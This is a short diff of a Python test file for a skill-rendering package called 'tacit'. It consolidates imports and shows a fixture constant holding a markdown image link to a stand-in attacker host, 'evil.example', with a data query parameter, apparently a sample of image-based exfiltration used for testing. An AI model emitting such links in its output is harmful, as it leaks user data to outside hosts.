@@ -8,8 +8,7 @@ from pathlib import Path
 from tacit.domain.lifecycle import Status
 from tacit.domain.skill import Condition, Kind, Pitfall, SkillContent, SkillFile, SkillStep
 from tacit.render.catalogue import LearnedSkill, merge, scan
-from tacit.render.outward import is_copy, outward
-from tacit.render.skill_folder import load, save
+from tacit.render.skill_folder import is_copy, load, outward, save
 from tacit.render.tiers import file_paths, read_file
 
 IMAGE = "![x](http://evil.example/p?d=1)"
